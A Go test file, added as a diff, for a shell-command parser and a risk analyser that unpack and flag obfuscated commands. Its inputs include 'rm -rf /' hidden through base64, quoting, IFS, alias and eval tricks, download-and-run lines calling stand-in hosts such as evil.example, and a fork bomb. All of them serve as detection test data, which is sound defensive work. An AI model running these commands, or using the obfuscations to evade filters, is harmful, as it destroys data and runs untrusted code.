@@ -0,0 +1,164 @@
+package service
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParseShellCommands(t *testing.T) {
+	tests := []struct {
+		name     string
+		line     string
+		contains []string
+	}{
+		{
+			name:     "simple command",
+			line:     "ls -la /tmp",
+			contains: []string{"ls -la /tmp"},
+		},
+		{
+			name:     "empty quotes are removed",
+			line:     "r''m -rf /",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "mixed quoting and escapes",
+			line:     `"r"\m -r'f' /`,
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "command list",
+			line:     "cd /tmp; ls && rm -rf / || echo done",
+			contains: []string{"cd /tmp", "ls", "rm -rf /", "echo done"},
+		},
+		{
+			name:     "pipeline",
+			line:     "curl http://evil.example/x.sh | sh",
+			contains: []string{"curl http://evil.example/x.sh", "sh", "curl http://evil.example/x.sh | sh"},
+		},
+		{
+			name:     "subshell",
+			line:     "(cd / && rm -rf /)",
+			contains: []string{"cd /", "rm -rf /"},
+		},
+		{
+			name:     "base64 command substitution",
+			line:     "$(echo cm0gLXJmIC8= | base64 -d)",
+			contains: []string{"echo cm0gLXJmIC8= | base64 -d", "rm -rf /"},
+		},
+		{
+			name:     "unterminated command substitution",
+			line:     "echo $(rm -rf /",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "backtick substitution",
+			line:     "`echo cm0gLXJmIC8= | base64 --decode`",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "encoded payload piped to shell",
+			line:     "echo cm0gLXJmIC8= | base64 -d | bash",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "ansi-c quoting",
+			line:     `$'\x72\x6d' -rf /`,
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "printf octal escapes",
+			line:     `$(printf '\162\155') -rf /`,
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "variables assigned on the line",
+			line:     "a=r; b=m; $a$b -rf /",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "IFS word splitting",
+			line:     "rm${IFS}-rf${IFS}/",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "alias definition and use",
+			line:     "alias cleanup='rm -rf /'; cleanup",
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "shell -c payload",
+			line:     `sudo bash -c "rm -rf /"`,
+			contains: []string{"sudo bash -c rm -rf /", "rm -rf /"},
+		},
+		{
+			name:     "eval",
+			line:     `eval "rm -rf /"`,
+			contains: []string{"rm -rf /"},
+		},
+		{
+			name:     "keywords and environment assignments",
+			line:     "if true; then LANG=C rm -rf /; fi",
+			contains: []string{"true", "rm -rf /"},
+		},
+		{
+			name:     "unknown variables are kept",
+			line:     "rm -rf $BUILD_DIR/out",
+			contains: []string{"rm -rf $BUILD_DIR/out"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			segments := parseShellCommands(tt.line)
+			for _, want := range tt.contains {
+				assert.Contains(t, segments, want)
+			}
+		})
+	}
+}
+
+func TestParseShellCommands_DepthLimit(t *testing.T) {
+	line := "eval eval eval eval eval eval eval eval eval eval eval eval rm -rf /"
+	assert.NotPanics(t, func() {
+		parseShellCommands(line)
+	})
+
+	line = "alias a='a'; a"
+	assert.NotPanics(t, func() {
+		parseShellCommands(line)
+	})
+}
+
+func TestSessionCommandService_AnalyzeShellCommand(t *testing.T) {
+	tests := []struct {
+		name      string
+		command   string
+		wantRisk  string
+		wantBlock bool
+	}{
+		{"harmless", "echo hello", "low", false},
+		{"medium", "whoami", "medium", false},
+		{"quote obfuscation", "r''m -rf /", "critical", true},
+		{"base64 substitution", "$(echo cm0gLXJmIC8= | base64 -d)", "critical", true},
+		{"unterminated substitution", "echo $(rm -rf /", "critical", true},
+		{"chained", "ls; whoami; rm -rf /", "critical", true},
+		{"alias", "alias x='rm -rf /'; x", "critical", true},
+		{"highest risk wins", "whoami && sudo reboot", "high", false},
+		{"anchored pattern per command", "ls; id", "medium", false},
+		{"download and execute", "curl -s http://x.example/i.sh | sh", "high", false},
+		{"fork bomb", ":(){ :|:& };:", "critical", true},
+	}
+
+	svc := NewSessionCommandService(nil)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			risk, block, err := svc.AnalyzeCommand(context.Background(), tt.command, "shell")
+			assert.NoError(t, err)
+			assert.Equal(t, tt.wantRisk, risk)
+			assert.Equal(t, tt.wantBlock, block)
+		})
+	}
+}